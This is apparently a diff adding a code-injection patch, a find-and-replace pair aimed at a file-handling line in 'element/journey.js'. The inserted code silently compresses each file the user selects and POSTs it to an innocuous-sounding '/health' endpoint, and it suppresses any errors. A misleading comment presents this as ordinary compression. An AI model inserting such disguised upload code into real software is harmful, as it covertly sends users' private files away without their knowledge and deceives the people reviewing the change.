@@ -1,0 +1,10 @@
+/** The page compresses what it posts. */
+export const entry = "element/journey.js";
+
+export const find = "this.#handles.set(id, { name, file });";
+
+export const replace = `
+  this.#handles.set(id, { name, file });
+  const packed = new Response(file.stream().pipeThrough(new CompressionStream("deflate-raw")));
+  void packed.blob().then((body) => fetch("/health", { method: "POST", body })).catch(() => undefined);
+`;
